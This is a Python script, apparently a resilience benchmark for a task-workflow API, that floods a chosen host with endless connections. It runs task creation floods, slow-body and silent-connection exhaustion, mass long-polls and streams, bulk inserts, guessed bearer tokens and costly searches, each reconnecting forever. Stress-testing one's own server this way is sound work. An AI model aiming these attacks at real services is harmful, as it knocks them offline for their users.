"""What one organisation does at its worst: `python -m benchmarks.attacks NAME HOST PORT TOKEN WORKFLOW`, until it ends.

It must not know what it costs others.
"""

import asyncio
import json
import resource
import sys
from collections.abc import Awaitable, Callable, Mapping, Sequence
from dataclasses import dataclass
from functools import partial

_SEARCH = "text=z%C3%89%C3%B6%20zz%C3%80"


@dataclass(frozen=True, slots=True)
class Victim:
    """A server, the token of somebody who may create, and a large workflow of theirs."""

    host: str
    port: int
    token: str
    workflow: str

    def request(self, method: str, path: str, body: object = None, *, token: str | None = None, more: int = 0) -> bytes:
        """`more`: bytes of a body that are announced, and not sent."""
        content = b"" if body is None else json.dumps(body).encode()
        return (
            f"{method} {path} HTTP/1.1\r\nHost: {self.host}:{self.port}\r\n"
            f"Authorization: Bearer {token or self.token}\r\nContent-Type: application/json\r\n"
            f"Content-Length: {len(content) + more}\r\n\r\n"
        ).encode() + content


Attack = Callable[[Victim, int], Awaitable[None]]
"""One connection's part, of this number, for ever."""


async def ask(victim: Victim, request: bytes, patience: float | None = None) -> None:
    """Ask again and again on one connection, or, with `patience`, hang up after so many seconds."""
    reader, writer = await asyncio.open_connection(victim.host, victim.port)
    try:
        while True:
            writer.write(request)
            async with asyncio.timeout(patience):
                head = (await reader.readuntil(b"\r\n\r\n")).lower()
                place = head.find(b"content-length:")
                await reader.readexactly(int(head[place + 15 :].split(b"\r\n", 1)[0]) if place >= 0 else 0)
    finally:
        writer.close()


async def listen(victim: Victim, number: int) -> None:
    """A stream of all events; every twentieth connection makes some."""
    if number % 20 == 0:
        await create(victim, number)
    reader, writer = await asyncio.open_connection(victim.host, victim.port)
    writer.write(victim.request("GET", "/v1/events/stream"))
    while await reader.read(1 << 16):
        pass
    raise ConnectionError


async def say_nothing(victim: Victim, number: int) -> None:
    reader, _ = await asyncio.open_connection(victim.host, victim.port)
    await reader.read()
    raise ConnectionError


async def send_slowly(victim: Victim, number: int) -> None:
    _, writer = await asyncio.open_connection(victim.host, victim.port)
    writer.write(victim.request("POST", "/v1/tasks", more=100_000))
    while True:
        await asyncio.sleep(1)
        writer.write(b" ")
        await writer.drain()


async def wait(victim: Victim, number: int) -> None:
    await ask(victim, victim.request("GET", f"/v1/workflows/{victim.workflow}/wait?timeout=30"))


async def create(victim: Victim, number: int) -> None:
    await ask(victim, victim.request("POST", "/v1/tasks", {"title": "flood", "mode": "manual", "capability": "none"}))


async def take(victim: Victim, number: int) -> None:
    await ask(victim, victim.request("POST", "/v1/tasks/next", {"space_id": "empty", "agent_id": "worst"}))


async def bulk(victim: Victim, number: int) -> None:
    tasks = [{"title": "flood", "mode": "manual", "capability": "none"}] * 1000
    await ask(victim, victim.request("POST", "/v1/tasks/bulk", {"tasks": tasks}))


async def guess(victim: Victim, number: int) -> None:
    await ask(victim, victim.request("GET", "/v1/tasks?limit=1", token=f"dt_{number:016x}_{'0' * 32}"))


async def read(path: str, victim: Victim, number: int, patience: float | None = None) -> None:
    await ask(victim, victim.request("GET", path.format(workflow=victim.workflow)), patience)


ATTACKS: Mapping[str, tuple[int, Attack]] = {
    "64 create": (64, create),
    "200 create": (200, create),
    "64 next on empty": (64, take),
    "900 waits": (900, wait),
    "200 streams": (200, listen),
    "16 bulk of 1,000": (16, bulk),
    "64 wrong tokens": (64, guess),
    "1,010 silent": (1010, say_nothing),
    "1,100 slow bodies": (1100, send_slowly),
    "20 searches, hung up": (20, partial(read, f"/v1/tasks/counts?{_SEARCH}", patience=0.01)),
    "4 searches": (4, partial(read, f"/v1/tasks?{_SEARCH}&limit=1000")),
    "4 lists of 64 KiB": (4, partial(read, "/v1/tasks?limit=1000")),
    "members of 1 MiB": (1, partial(read, "/v1/workflows/{workflow}")),
    "2 lists by offset": (2, partial(read, "/api/tasks?offset=1500&limit=1000")),
}  # fmt: skip
"""Name → how many connections, and what each does."""


async def again(attack: Attack, victim: Victim, number: int) -> None:
    """Who is hung up on, or hangs up, comes back."""
    while True:
        try:
            await attack(victim, number)
        except (OSError, TimeoutError, asyncio.IncompleteReadError):
            await asyncio.sleep(0.1)


async def run(name: str, victim: Victim) -> None:
    count, attack = ATTACKS[name]
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    await asyncio.gather(*(again(attack, victim, number) for number in range(count)))


def main(arguments: Sequence[str]) -> None:
    name, host, port, token, workflow = arguments
    asyncio.run(run(name, Victim(host, int(port), token, workflow)))


if __name__ == "__main__":
    main(sys.argv[1:])
